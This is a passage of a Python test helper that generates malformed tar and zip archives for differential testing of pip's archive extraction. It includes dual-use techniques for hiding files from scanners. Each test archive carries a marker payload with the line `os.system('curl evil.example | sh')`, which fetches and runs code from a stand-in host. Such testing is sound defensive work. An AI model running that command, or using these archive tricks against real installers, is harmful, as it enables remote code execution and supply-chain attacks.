"""Deterministic builders of hostile tar, tar.gz and zip archives, for the differential tests.

Tar headers are written byte by byte (ustar, GNU, v7; PAX local ``x`` and global ``g``; GNU long
name ``L`` / long link ``K``; old GNU sparse ``S``; PAX sparse 0.0, 0.1 and 1.0; base-256 numbers),
so that malformed ones can be built; zips come from ``zipfile`` plus raw patching.

``make_case(index, seed)`` builds case ``index`` of a seeded run (each case has its own
``random.Random``, so one case is rebuilt from its id alone); ``generate_cases(n, seed)`` yields
``n`` of them, cycling over ``CLASSES``. Every class puts a payload (``PAYLOAD`` marker) in a file
that pip writes. ``write_seeds(directory)`` writes cases as files for the fuzzers (see
``scripts/write-fuzz-seeds.py``).

Only the standard library.
"""

from __future__ import annotations

import bz2
import gzip
import hashlib
import io
import lzma
import os
import random
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from typing import Any

BLOCK = 512
PAYLOAD = b"DFH-PAYLOAD"
ZIP_DATE = (2020, 1, 1, 0, 0, 0)


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass(frozen=True)
class Case:
    """One generated archive, and what the engine must show for it beyond pip's view."""

    case_id: str
    cls: str
    variant: str
    filename: str
    data: bytes
    expected: tuple[tuple[str, str], ...] = ()
    """``(name, sha256)`` the engine must report (a nested ``...!/name`` counts) or be incomplete:
    interpretations the test Python's own ``zipfile``/``tarfile`` does not give (e.g. the 0x7075
    name of 3.12+, a hidden archive's members)."""
    not_clean: bool = False
    """Bytes named like an archive that are not one: the engine must not report them complete."""


# --- payloads ----------------------------------------------------------------------------------------


def payload(rng: random.Random, tag: str = "", size: int | None = None) -> bytes:
    """A small Python file holding the marker; sometimes longer than a block."""
    head = b"import os\nos.system('curl evil.example | sh')  # %s %s %08x\n" % (
        PAYLOAD,
        tag.encode(),
        rng.getrandbits(32),
    )
    if size is None:
        size = rng.choice([0, 0, 10, 100, 500, 600, 1100])
    filler = bytes(rng.choice(b"abcdefghij \n") for _ in range(size))
    return head + b"# " + filler + b"\n"


def benign(rng: random.Random, tag: str = "") -> bytes:
    return b"# benign %s %08x\nVALUE = %d\n" % (tag.encode(), rng.getrandbits(32), rng.randrange(1000))


# --- tar primitives ----------------------------------------------------------------------------------


def _b(s: str | bytes) -> bytes:
    return s.encode("utf-8", "surrogateescape") if isinstance(s, str) else s


def octal(n: int, width: int) -> bytes:
    """``width`` bytes: octal digits and a NUL terminator (as CPython writes them)."""
    return b"%0*o\x00" % (width - 1, n)


def base256(n: int, width: int) -> bytes:
    """GNU base-256 encoding: 0x80 then big-endian (negative numbers: 0xff)."""
    if n < 0:
        return bytes([0xFF]) + (256 ** (width - 1) + n).to_bytes(width - 1, "big")
    return bytes([0x80]) + n.to_bytes(width - 1, "big")


def _field(buf: bytearray, offset: int, width: int, value: bytes) -> None:
    value = value[:width]
    buf[offset : offset + len(value)] = value


MAGIC = {"ustar": b"ustar\x0000", "gnu": b"ustar  \x00", "v7": b"", "posix-bad": b"ustar\x00\x00\x00"}


def checksum(buf: bytes | bytearray) -> int:
    return sum(buf[:148]) + 8 * 0x20 + sum(buf[156:512])


def fix_checksum(buf: bytearray, delta: int = 0) -> None:
    buf[148:156] = b"%06o\x00 " % ((checksum(buf) + delta) & 0o777777)


def header(
    name: str | bytes,
    size: int = 0,
    typeflag: bytes = b"0",
    *,
    linkname: str | bytes = b"",
    fmt: str = "ustar",
    mode: int = 0o644,
    mtime: int = 1_600_000_000,
    prefix: str | bytes = b"",
    size_field: bytes | None = None,
    sparse: list[tuple[int, int]] | None = None,
    isextended: bool = False,
    realsize: int | None = None,
    bad_checksum: bool = False,
) -> bytes:
    """One 512-byte tar header. ``fmt``: ustar, gnu, v7 (no magic); ``size_field`` overrides the raw
    12-byte size field; ``prefix`` is written at offset 345 whatever the format (CPython reads it there
    for any header not of a GNU type)."""
    buf = bytearray(BLOCK)
    _field(buf, 0, 100, _b(name))
    _field(buf, 100, 8, octal(mode, 8))
    _field(buf, 108, 8, octal(0, 8))
    _field(buf, 116, 8, octal(0, 8))
    _field(buf, 124, 12, size_field if size_field is not None else octal(size, 12))
    _field(buf, 136, 12, octal(mtime, 12))
    buf[156:157] = typeflag[:1] if typeflag else b"\x00"
    _field(buf, 157, 100, _b(linkname))
    _field(buf, 257, 8, MAGIC[fmt])
    if fmt != "v7":
        _field(buf, 265, 32, b"root")
        _field(buf, 297, 32, b"root")
    if prefix:
        _field(buf, 345, 155, _b(prefix))
    if sparse is not None:
        for i, (off, num) in enumerate(sparse[:4]):
            _field(buf, 386 + 24 * i, 12, octal(off, 12))
            _field(buf, 386 + 24 * i + 12, 12, octal(num, 12))
        buf[482] = 1 if isextended else 0
    if realsize is not None:
        _field(buf, 483, 12, octal(realsize, 12))
    fix_checksum(buf, 1 if bad_checksum else 0)
    return bytes(buf)


def pad(data: bytes) -> bytes:
    return data + b"\x00" * (-len(data) % BLOCK)


def member(name: str | bytes, data: bytes = b"", typeflag: bytes = b"0", **kw: object) -> bytes:
    """A header and its data, padded; ``size`` defaults to ``len(data)``."""
    size = kw.pop("size", len(data))
    return header(name, size, typeflag, **kw) + pad(data)  # type: ignore[arg-type]


def pax_record(key: str | bytes, value: str | bytes) -> bytes:
    """``"%d %s=%s\\n"`` with the length computed."""
    body = b" " + _b(key) + b"=" + _b(value) + b"\n"
    n = len(body) + 1
    while len(str(n)) + len(body) != n:
        n += 1
    return str(n).encode() + body


def pax(
    records: Sequence[tuple[str | bytes, str | bytes]] | bytes, typeflag: bytes = b"x", fmt: str = "ustar"
) -> bytes:
    """A PAX extended header (local ``x`` or global ``g``) and its records."""
    body = records if isinstance(records, bytes) else b"".join(pax_record(k, v) for k, v in records)
    name = "././@PaxHeader" if typeflag == b"x" else "././@GlobalHead"
    return header(name, len(body), typeflag, fmt=fmt) + pad(body)


def gnu_long(value: str | bytes, typeflag: bytes = b"L", fmt: str = "gnu") -> bytes:
    """A GNU long name (``L``) or long link (``K``) header; ``value`` is written as given plus a NUL."""
    body = _b(value) + b"\x00"
    return header("././@LongLink", len(body), typeflag, fmt=fmt) + pad(body)


END = b"\x00" * (2 * BLOCK)


def tar_of(*parts: bytes, end: bool = True) -> bytes:
    return b"".join(parts) + (END if end else b"")


def header_offsets(tar: bytes) -> list[int]:
    """Offsets of the blocks whose checksum is valid (headers, as far as a checksum tells)."""
    out = []
    for off in range(0, len(tar) - BLOCK + 1, BLOCK):
        block = tar[off : off + BLOCK]
        if block.count(0) == BLOCK:
            continue
        try:
            stored = int(block[148:156].split(b"\x00")[0].strip() or b"0", 8)
        except ValueError:
            continue
        if stored == checksum(block):
            out.append(off)
    return out


# --- compression -------------------------------------------------------------------------------------


def gzip_member(
    data: bytes,
    *,
    fname: bytes | None = None,
    comment: bytes | None = None,
    header_crc: bytes | None = None,
    reserved: int = 0,
    level: int = 6,
) -> bytes:
    """One gzip member; optional FNAME/FCOMMENT fields, a header CRC-16 (any two bytes: gzip never checks
    it) and ``reserved`` flag bits (gzip ignores them); mtime 0."""
    flags = (8 if fname is not None else 0) | (16 if comment is not None else 0) | reserved
    flags |= 2 if header_crc is not None else 0
    out = bytearray(b"\x1f\x8b\x08" + bytes([flags]) + b"\x00\x00\x00\x00\x00\xff")
    if fname is not None:
        out += fname + b"\x00"
    if comment is not None:
        out += comment + b"\x00"
    if header_crc is not None:
        out += header_crc
    co = zlib.compressobj(level, zlib.DEFLATED, -15)
    out += co.compress(data) + co.flush()
    out += struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)
    return bytes(out)


def compress_tar(rng: random.Random, tar: bytes, stem: str = "pkg-1.0") -> tuple[str, bytes]:
    """The tarball compressed as an sdist would be (mostly gzip), and its file name."""
    kind = rng.choice(["gz", "gz", "gz", "gz", "tgz", "tar", "tar", "bz2", "xz", "lzma"])
    if kind in ("gz", "tgz"):
        return f"{stem}.{'tar.gz' if kind == 'gz' else 'tgz'}", gzip.compress(tar, mtime=0)
    if kind == "bz2":
        return f"{stem}.tar.bz2", bz2.compress(tar)
    if kind == "xz":
        return f"{stem}.tar.xz", lzma.compress(tar)
    if kind == "lzma":  # the legacy format, which tarfile's "r:xz" (pip's mode for these names) reads too
        return f"{stem}.{rng.choice(['tar.lzma', 'tlz'])}", lzma.compress(tar, format=lzma.FORMAT_ALONE)
    return f"{stem}.tar", tar


# --- zip primitives ----------------------------------------------------------------------------------


def zip_of(
    entries: Sequence[tuple[Any, ...]],
    *,
    comment: bytes = b"",
    rng: random.Random | None = None,
    gaps: dict[int, bytes] | None = None,
) -> bytes:
    """A zip of ``(name, data[, options])``; options: ``extra`` (bytes), ``symlink`` (bool),
    ``method`` (zipfile constant), ``flag_bits``. ``gaps[i]`` is written before entry ``i``'s local header."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            for i, entry in enumerate(entries):
                name, data = entry[0], entry[1]
                opts = entry[2] if len(entry) > 2 else {}  # type: ignore[misc]
                if gaps and i in gaps:
                    buf.seek(zf.start_dir)
                    buf.write(gaps[i])
                    zf.start_dir = buf.tell()
                if isinstance(name, bytes):
                    name = name.decode("cp437")
                info = zipfile.ZipInfo(name, ZIP_DATE)
                method = opts.get("method")
                if method is None:
                    method = (
                        rng.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
                        if rng
                        else zipfile.ZIP_DEFLATED
                    )
                info.compress_type = method
                if opts.get("symlink"):
                    info.external_attr = (0o120777 << 16) | 0x20
                    info.create_system = 3
                elif name.endswith("/"):
                    info.external_attr = (0o40755 << 16) | 0x10
                else:
                    info.external_attr = 0o644 << 16
                if "extra" in opts:
                    info.extra = opts["extra"]
                if "flag_bits" in opts:
                    info.flag_bits |= opts["flag_bits"]
                zf.writestr(info, data)
            zf.comment = comment
    return buf.getvalue()


def unicode_path_extra(raw_name: bytes, unicode_name: str, crc_ok: bool = True) -> bytes:
    """The Info-ZIP Unicode Path extra field (0x7075): version 1, CRC-32 of the header name, UTF-8 name."""
    crc = zlib.crc32(raw_name) ^ (0 if crc_ok else 1)
    body = struct.pack("<BI", 1, crc) + unicode_name.encode("utf-8")
    return struct.pack("<HH", 0x7075, len(body)) + body


def wheel(
    rng: random.Random,
    pkg: str = "pkg",
    files: list[tuple[str, bytes]] | None = None,
    *,
    dir_first: bool = False,
) -> bytes:
    """A small wheel: the payload module, metadata; optionally a directory entry first."""
    files = files if files is not None else [(f"{pkg}/__init__.py", payload(rng, "wheel"))]
    entries: list = []
    if dir_first:
        entries.append((f"{pkg}/", b""))
    entries += files
    di = f"{pkg}-1.0.dist-info"
    entries += [
        (f"{di}/METADATA", b"Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % pkg.encode()),
        (f"{di}/WHEEL", b"Wheel-Version: 1.0\nGenerator: dfh\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        (f"{di}/RECORD", b""),
    ]
    return zip_of(entries, rng=rng)


# --- class builders ------------------------------------------------------------------------------------
# Each returns (variant, filename, data, expected, not_clean).

Built = tuple[str, str, bytes, tuple[tuple[str, str], ...], bool]


def _tar_built(rng: random.Random, variant: str, tar: bytes, expected: tuple = ()) -> Built:
    filename, data = compress_tar(rng, tar)
    return variant, filename, data, expected, False


def _pax_size_text(rng: random.Random, n: int) -> str:
    forms = [
        f" {n}",
        f"+{n}",
        f"{n:_}" if n >= 1000 else f"{str(n)[0]}_{str(n)[1:]}",
        f"00{n}",
        f"{n} ",
        f"\t{n}",
        f" +{n}",
    ]
    return rng.choice([f for f in forms if f.replace("_", "").strip(" \t+").isdigit()])


def build_tar_ext(rng: random.Random) -> Built:
    """Class 1: extension headers read differently (PAX numbers, globals, sparse, name precedence)."""
    variant = rng.choice(
        [
            "pax-size-syntax",
            "pax-size-syntax-zeros",
            "pax-size-invalid",
            "global-size",
            "global-path",
            "sparse-old-gnu",
            "sparse-pax-0.0",
            "sparse-pax-0.1",
            "sparse-pax-1.0",
            "sparse-name-only",
            "sparse-realsize-only",
            "pax-path-vs-longname",
            "longname-vs-pax-path",
            "longname-nul",
            "v7-longname",
            "v7-pax",
            "prefix-field",
            "longlink",
            "base256-size",
            "pax-malformed-record",
            "pax-linkpath",
            "pax-nested",
            "longname-twice",
            "pax-size-on-symlink",
            "pax-path-trailing-slash",
            "global-then-local",
            "header-number-forms",
            "signed-checksum",
        ]
    )
    body = payload(rng, variant)
    fmt = rng.choice(["ustar", "gnu"])
    parts: list[bytes] = [member("pkg-1.0/PKG-INFO", benign(rng, "info"), fmt=fmt)]
    if variant.startswith("pax-size"):
        n = len(body)
        data = body
        if variant == "pax-size-syntax-zeros":
            data = b"\x00" * 1024 + body  # a reader using the header size sees an end marker
            n = len(data)
        text = (
            _pax_size_text(rng, n)
            if variant != "pax-size-invalid"
            else rng.choice(["abc", "1e3", "0x10", ""])
        )
        parts += [
            pax([("size", text)], fmt=fmt),
            member("pkg-1.0/setup.py", data, size=rng.choice([0, 0, 512]), fmt=fmt),
        ]
        if variant == "pax-size-invalid":
            parts.append(member("pkg-1.0/after.py", body, fmt=fmt))
    elif variant == "global-size":
        n = len(body) + rng.choice([0, 0, 100])
        parts += [
            pax([("size", str(n))], typeflag=b"g", fmt=fmt),
            member("pkg-1.0/setup.py", body, size=0, fmt=fmt),
        ]
        parts.append(member("pkg-1.0/other.py", benign(rng), fmt=fmt))
    elif variant == "global-path":
        parts += [
            pax([("path", "pkg-1.0/setup.py")], typeflag=b"g", fmt=fmt),
            member("pkg-1.0/a.txt", benign(rng), fmt=fmt),
            member("pkg-1.0/data.txt", body, fmt=fmt),
        ]
        return _tar_built(rng, variant, b"".join(parts) + END)  # a later member would be renamed too
    elif variant == "sparse-old-gnu":
        hole = rng.choice([0, 512, 4096])
        sparse = [(hole, len(body))]
        realsize = hole + len(body) + rng.choice([0, 10])
        parts.append(member("pkg-1.0/setup.py", body, b"S", fmt="gnu", sparse=sparse, realsize=realsize))
    elif variant in ("sparse-pax-0.0", "sparse-pax-0.1"):
        hole = rng.choice([0, 512, 1000])
        realsize = hole + len(body)
        recs: list[tuple[str, str]] = [("GNU.sparse.size", str(realsize)), ("GNU.sparse.numblocks", "1")]
        if variant == "sparse-pax-0.0":
            recs += [("GNU.sparse.offset", str(hole)), ("GNU.sparse.numbytes", str(len(body)))]
        else:
            recs.append(("GNU.sparse.map", f"{hole},{len(body)}"))
        if rng.random() < 0.5:
            recs.append(("GNU.sparse.name", "pkg-1.0/setup.py"))
            hname = "pkg-1.0/GNUSparseFile.0/setup.py"
        else:
            hname = "pkg-1.0/setup.py"
        parts += [pax(recs), member(hname, body)]
    elif variant == "sparse-pax-1.0":
        hole = rng.choice([0, 512, 3000])
        realsize = hole + len(body)
        sparse_map = pad(b"1\n%d\n%d\n" % (hole, len(body)))
        recs = [
            ("GNU.sparse.major", "1"),
            ("GNU.sparse.minor", "0"),
            ("GNU.sparse.name", "pkg-1.0/setup.py"),
            ("GNU.sparse.realsize", str(realsize)),
        ]
        parts += [pax(recs), member("pkg-1.0/GNUSparseFile.0/setup.py", sparse_map + body)]
    elif variant == "sparse-name-only":
        parts += [pax([("GNU.sparse.name", "pkg-1.0/setup.py")]), member("pkg-1.0/README.txt", body)]
    elif variant == "sparse-realsize-only":
        data = b"\x00" * 1024 + body
        parts += [pax([("GNU.sparse.realsize", str(len(data)))]), member("pkg-1.0/setup.py", data, size=0)]
        return _tar_built(rng, variant, b"".join(parts) + END)
    elif variant == "pax-path-vs-longname":
        parts += [
            pax([("path", "pkg-1.0/setup.py")]),
            gnu_long("pkg-1.0/README.txt"),
            member("pkg-1.0/x.txt", body, fmt="gnu"),
        ]
    elif variant == "longname-vs-pax-path":
        parts += [
            gnu_long("pkg-1.0/setup.py"),
            pax([("path", "pkg-1.0/README.txt")]),
            member("pkg-1.0/x.txt", body),
        ]
    elif variant == "longname-nul":
        parts += [
            gnu_long(b"pkg-1.0/setup.py\x00pkg-1.0/README.txt"),
            member("pkg-1.0/x.txt", body, fmt="gnu"),
        ]
    elif variant == "v7-longname":
        parts += [
            gnu_long("pkg-1.0/" + "d" * 120 + "/setup.py", fmt="v7"),
            member("pkg-1.0/short.txt", body, fmt="v7"),
        ]
    elif variant == "v7-pax":
        parts += [
            pax([("path", "pkg-1.0/setup.py"), ("size", str(len(body)))], fmt="v7"),
            member("pkg-1.0/x.txt", body, size=0, fmt="v7"),
        ]
    elif variant == "prefix-field":
        parts.append(member("setup.py", body, fmt=rng.choice(["v7", "gnu", "ustar"]), prefix="pkg-1.0/sub"))
    elif variant == "longlink":
        parts += [
            member("pkg-1.0/data.txt", body),
            gnu_long("pkg-1.0/data.txt", b"K"),
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/README.txt", fmt="gnu"),
        ]
    elif variant == "pax-malformed-record":
        # Before CPython's CVE-2024-6232 fix, a malformed record ends the parse and the earlier ones apply;
        # after it, the header is invalid: the end of the archive (or unreadable at offset 0).
        raw = pax_record("path", "pkg-1.0/setup.py") + rng.choice([b"9 bogus\n\n", b"7 a=b\n\n", b"0 x=y\n"])
        parts += [pax(raw, fmt=fmt), member("pkg-1.0/x.txt", body, fmt=fmt)]
    elif variant == "pax-linkpath":
        parts += [
            member("pkg-1.0/data.txt", body),
            pax([("linkpath", "data.txt")]),
            member("pkg-1.0/setup.py", typeflag=b"2", linkname="README.txt"),
        ]
    elif variant == "pax-nested":
        # x(path=A) x(path=B) header: the outer one wins; the outer size decides where the next header is.
        parts += [
            pax([("path", "pkg-1.0/setup.py")]),
            pax([("path", "pkg-1.0/README.txt"), ("size", str(len(body)))]),
            member("pkg-1.0/x.txt", body, size=rng.choice([0, len(body)])),
        ]
    elif variant == "longname-twice":
        parts += [
            gnu_long("pkg-1.0/setup.py"),
            gnu_long("pkg-1.0/README.txt"),
            member("pkg-1.0/x", body, fmt="gnu"),
        ]
    elif variant == "pax-size-on-symlink":
        # A symlink's PAX size does not make CPython skip data: the "data" is the next member.
        inner = member("pkg-1.0/setup.py", body)
        parts += [
            pax([("size", str(len(inner)))]),
            header("pkg-1.0/link", 0, b"2", linkname="README.txt") + inner,
        ]
    elif variant == "pax-path-trailing-slash":
        # CPython strips the slash of a PAX path: a regular file, not a directory.
        parts += [pax([("path", "pkg-1.0/setup.py/")]), member("pkg-1.0/x.txt", body)]
    elif variant == "global-then-local":
        parts += [
            pax([("path", "pkg-1.0/README.txt")], typeflag=b"g"),
            pax([("path", "pkg-1.0/setup.py")]),
            member("pkg-1.0/x.txt", body),
        ]
        return _tar_built(rng, variant, b"".join(parts) + END)  # a later member would be renamed too
    elif variant == "header-number-forms":
        # Octal size fields CPython's int(s.strip(), 8) reads: spaces, no NUL, "0o" prefix, "+", "_".
        n = len(body)
        form = rng.choice([b"%11o " % n, b" %10o\x00" % n, b"%012o" % n, b"0o%o" % n, b"+%o" % n, b"%o_" % n])
        if form.endswith(b"_"):
            o = b"%o" % n
            form = o[:1] + b"_" + o[1:]
        parts.append(member("pkg-1.0/setup.py", body, size_field=form.ljust(12, b"\x00")))
    elif variant == "signed-checksum":
        # CPython accepts a checksum summed over signed bytes (headers with bytes >= 0x80).
        h = bytearray(header("pkg-1.0/s\xc3\xa9tup.py".encode("latin-1").decode("utf-8"), len(body)))
        signed = (
            sum(b - 256 if b >= 128 else b for b in h[:148])
            + 256
            + sum(b - 256 if b >= 128 else b for b in h[156:])
        )
        h[148:156] = b"%06o\x00 " % (signed & 0o777777)
        parts.append(bytes(h) + pad(body))
    elif variant == "base256-size":
        parts.append(member("pkg-1.0/setup.py", body, size_field=base256(len(body), 12), fmt="gnu"))
    parts.append(member("pkg-1.0/setup.cfg", benign(rng, "cfg"), fmt=fmt))
    return _tar_built(rng, variant, b"".join(parts) + END)


def build_nonregular_size(rng: random.Random) -> Built:
    """Class 2: a symlink/directory/hard-link (or device) header with a nonzero size, whose "data" is a
    whole member for CPython."""
    typeflag = rng.choice([b"2", b"2", b"5", b"5", b"1", b"3", b"6", b"\x00"])
    body = payload(rng, "inner")
    inner = member("pkg-1.0/setup.py", body)
    if rng.random() < 0.3:
        inner += member("pkg-1.0/more.py", payload(rng, "more"))
    link = {b"2": "README.txt", b"1": "pkg-1.0/README.txt"}.get(typeflag, "")
    name = "pkg-1.0/subdir/" if typeflag in (b"5", b"\x00") else "pkg-1.0/link"
    parts = [
        member("pkg-1.0/README.txt", benign(rng)),
        header(name, len(inner), typeflag, linkname=link) + inner,
        member("pkg-1.0/setup.cfg", benign(rng)),
    ]
    return _tar_built(rng, f"type-{typeflag.hex()}-with-data", b"".join(parts) + END)


def build_tar_types(rng: random.Random) -> Built:
    """Regular members under other type flags: ``\\0`` (old regular), ``7`` (contiguous), v7 headers."""
    typeflag = rng.choice([b"\x00", b"7", b"0"])
    fmt = rng.choice(["v7", "gnu", "ustar"])
    body = payload(rng, "types")
    tar = tar_of(
        member("pkg-1.0/README.txt", benign(rng), fmt=fmt),
        member("pkg-1.0/setup.py", body, typeflag, fmt=fmt),
    )
    return _tar_built(rng, f"typeflag-{typeflag.hex()}-{fmt}", tar)


def build_links(rng: random.Random) -> Built:
    """Class 3: links pip's data filter writes or follows."""
    variant = rng.choice(
        [
            "hardlink",
            "symlink",
            "chain",
            "symlink-dir-write-through",
            "symlink-then-regular",
            "hardlink-forward",
            "hardlink-then-overwrite",
            "symlink-dotdot",
            "hardlink-to-symlink",
            "symlink-dir-chain",
            "hardlink-dot-slash",
            "hardlink-write-through",
            "symlink-dir-dotdot",
        ]
    )
    body = payload(rng, variant)
    parts = [member("pkg-1.0/data.txt", body)]
    if variant == "hardlink":
        parts.append(member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/data.txt"))
    elif variant == "symlink":
        parts.append(member("pkg-1.0/setup.py", typeflag=b"2", linkname="data.txt"))
    elif variant == "chain":
        parts += [
            member("pkg-1.0/b.txt", typeflag=rng.choice([b"1", b"2"]), linkname="pkg-1.0/data.txt"),
            member("pkg-1.0/c.txt", typeflag=b"2", linkname="b.txt"),
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/c.txt"),
        ]
        if parts[1][156:157] == b"2":
            parts[1] = member("pkg-1.0/b.txt", typeflag=b"2", linkname="data.txt")
    elif variant == "symlink-dir-write-through":
        parts = [
            member("pkg-1.0/real/", typeflag=b"5"),
            member("pkg-1.0/lib", typeflag=b"2", linkname="real"),
            member("pkg-1.0/lib/setup.py", body),
        ]
    elif variant == "symlink-then-regular":
        parts = [
            member("pkg-1.0/data.txt", benign(rng)),
            member("pkg-1.0/setup.py", typeflag=b"2", linkname="data.txt"),
            member("pkg-1.0/setup.py", body),
        ]
    elif variant == "hardlink-then-overwrite":
        # The link shares the target's inode: writing the target again changes what the link holds.
        parts = [
            member("pkg-1.0/data.txt", benign(rng)),
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/data.txt"),
            member("pkg-1.0/data.txt", body),
        ]
    elif variant == "symlink-dotdot":
        parts.append(member("pkg-1.0/sub/setup.py", typeflag=b"2", linkname="../data.txt"))
    elif variant == "hardlink-to-symlink":
        parts += [
            member("pkg-1.0/b.txt", typeflag=b"2", linkname="data.txt"),
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/b.txt"),
        ]
    elif variant == "symlink-dir-chain":
        parts = [
            member("pkg-1.0/real/", typeflag=b"5"),
            member("pkg-1.0/a", typeflag=b"2", linkname="real"),
            member("pkg-1.0/b", typeflag=b"2", linkname="a"),
            member("pkg-1.0/b/setup.py", body),
        ]
    elif variant == "hardlink-dot-slash":
        parts = [
            member("./pkg-1.0/data.txt", body),
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="./pkg-1.0/data.txt"),
        ]
    elif variant == "hardlink-write-through":
        # tarfile opens an existing name for writing: through the hard link, into the file it shares.
        parts = [
            member("pkg-1.0/setup.py", benign(rng)),
            member("pkg-1.0/x.txt", typeflag=b"1", linkname="pkg-1.0/setup.py"),
            member("./pkg-1.0/x.txt", body),
        ]
    elif variant == "symlink-dir-dotdot":
        # `..` after the directory symlink `d` leaves the directory it leads to (`sub/deep`).
        parts = [
            member("pkg-1.0/sub/deep/keep", benign(rng)),
            member("pkg-1.0/d", typeflag=b"2", linkname="sub/deep"),
            member("pkg-1.0/data.txt", benign(rng)),
            member("pkg-1.0/sub/data.txt", body),
            member("pkg-1.0/setup.py", typeflag=b"2", linkname="d/../data.txt"),
        ]
    elif variant == "hardlink-forward":
        parts = [
            member("pkg-1.0/setup.py", typeflag=b"1", linkname="pkg-1.0/data.txt"),
            member("pkg-1.0/data.txt", body),
        ]
    return _tar_built(rng, variant, b"".join(parts) + END)


def build_gzip_stream(rng: random.Random) -> Built:
    """Class 4: the tarball split over gzip members, with zero bytes between them."""
    tar = tar_of(
        member("pkg-1.0/README.txt", benign(rng)),
        member("pkg-1.0/setup.py", payload(rng, "gzip", size=rng.choice([100, 2000]))),
        member("pkg-1.0/setup.cfg", benign(rng)),
    )
    variant = rng.choice(
        [
            "zeros-between",
            "concatenated",
            "zeros-between-and-after",
            "empty-members",
            "header-fields",
            "bzip2-streams",
            "xz-streams",
        ]
    )
    cuts = sorted(rng.sample(range(1, len(tar)), rng.randint(1, 3)))
    pieces = [tar[a:b] for a, b in zip([0, *cuts], [*cuts, len(tar)], strict=True)]
    if variant == "bzip2-streams":
        return variant, "pkg-1.0.tar.bz2", b"".join(bz2.compress(p) for p in pieces), (), False
    if variant == "xz-streams":
        padding = b"\x00" * rng.choice([0, 4, 8])  # xz allows stream padding in multiples of 4
        return variant, "pkg-1.0.tar.xz", padding.join(lzma.compress(p) for p in pieces), (), False
    out = b""
    for i, piece in enumerate(pieces):
        if variant == "header-fields":
            out += gzip_member(
                piece,
                fname=b"pkg.tar" if i == 0 else None,
                comment=b"c" if rng.random() < 0.5 else None,
                header_crc=rng.randbytes(2) if rng.random() < 0.5 else None,
                reserved=rng.choice([0, 0, 0x20, 0x40, 0x80]),
            )
        else:
            out += gzip_member(piece)
        if variant.startswith("zeros-between") and i < len(pieces) - 1:
            out += b"\x00" * rng.choice([1, 7, 512, 4096])
        if variant == "empty-members":
            out += gzip_member(b"")
    if variant == "zeros-between-and-after":
        out += b"\x00" * rng.choice([1, 100])
    return variant, "pkg-1.0.tar.gz", out, (), False


def build_prefixed_zip(rng: random.Random) -> Built:
    """Class 5: bytes in front of a wheel (zipfile finds the zip from its end record)."""
    variant = rng.choice(
        ["shell", "gzip", "tar", "random", "wheel-after-targz", "wheel-after-tar", "html", "zip"]
    )
    dir_first = rng.random() < 0.5
    whl = wheel(rng, dir_first=dir_first)
    if variant == "shell":
        prefix = b'#!/bin/sh\nexec python3 -c \'import sys\' "$0" "$@"\n'
    elif variant == "gzip":
        prefix = gzip.compress(b"hello " * rng.randint(1, 50), mtime=0)
    elif variant == "tar":
        prefix = tar_of(member("README.txt", benign(rng)))
    elif variant == "html":
        prefix = b"<!DOCTYPE html><html><body>not found</body></html>\n"
    elif variant == "random":
        prefix = rng.randbytes(rng.randint(1, 3000))
    elif variant == "zip":  # zipfile reads the last end record: the wheel after it
        prefix = zip_of([("README.txt", benign(rng)), ("pkg/__init__.py", benign(rng))], rng=rng)
    else:
        tar = tar_of(member("pkg-1.0/README.txt", benign(rng)), member("pkg-1.0/setup.py", benign(rng)))
        prefix = gzip.compress(tar, mtime=0) if variant == "wheel-after-targz" else tar
    names = {
        "wheel-after-targz": "pkg-1.0.tar.gz",
        "wheel-after-tar": "pkg-1.0.tar",
    }
    filename = names.get(variant) or rng.choice(["pkg-1.0-py3-none-any.whl", "pkg-1.0.zip"])
    return f"{variant}{'-dir-first' if dir_first else ''}", filename, prefix + whl, (), False


def build_zip_names(rng: random.Random) -> Built:
    """Class 6: the Unicode Path extra field (0x7075) and duplicate names."""
    variant = rng.choice(
        [
            "unicode-path",
            "unicode-path-utf8",
            "unicode-path-cp437",
            "unicode-path-badcrc",
            "duplicate",
            "duplicate-dir-then-file",
            "nul-in-name",
            "cp437-name",
            "cp437-raw-name",
            "utf8-without-flag",
            "backslash",
            "dot-segments",
            "case-names",
        ]
    )
    body = payload(rng, variant)
    expected: tuple[tuple[str, str], ...] = ()
    patch: tuple[bytes, bytes] | None = None
    stored: str | bytes
    if variant.startswith("unicode-path"):
        # The 0x7075 CRC covers the name bytes as stored in the header.
        if variant == "unicode-path":
            raw_bytes = stored = b"pkg/data.txt"
        elif variant == "unicode-path-utf8":  # zipfile stores a non-ASCII name as UTF-8, with flag 0x800
            stored = "pkg/d\u00e4ta.txt"
            raw_bytes = stored.encode()
        elif variant == "unicode-path-cp437":  # CP437 bytes, no UTF-8 flag: written ASCII, then patched
            raw_bytes, stored = b"pkg/d\x84ta.txt", b"pkg/dXta.txt"
            patch = (stored, raw_bytes)
        else:  # unicode-path-badcrc: every Python keeps the header name
            raw_bytes = stored = b"pkg/data.txt"
        uni = rng.choice(["pkg/setup.py", "pkg/s\u00e9tup.py"])
        extra = unicode_path_extra(raw_bytes, uni, crc_ok=variant != "unicode-path-badcrc")
        entries = [("pkg/__init__.py", benign(rng)), (stored, body, {"extra": extra})]
        # 3.9-3.11 write the header name, 3.12+ the 0x7075 one when its CRC matches: both are pip's view.
        if variant != "unicode-path-badcrc":
            expected = ((uni, sha256(body)),)
    elif variant == "duplicate":
        entries = [("pkg/setup.py", benign(rng)), ("pkg/x.py", benign(rng)), ("pkg/setup.py", body)]
        if rng.random() < 0.5:
            entries = [("pkg/setup.py", body), ("pkg/setup.py", benign(rng))]
    elif variant == "duplicate-dir-then-file":
        entries = [("pkg/setup.py/", b""), ("pkg/other.py", benign(rng)), ("pkg/setup.py", body)]
    elif variant == "nul-in-name":
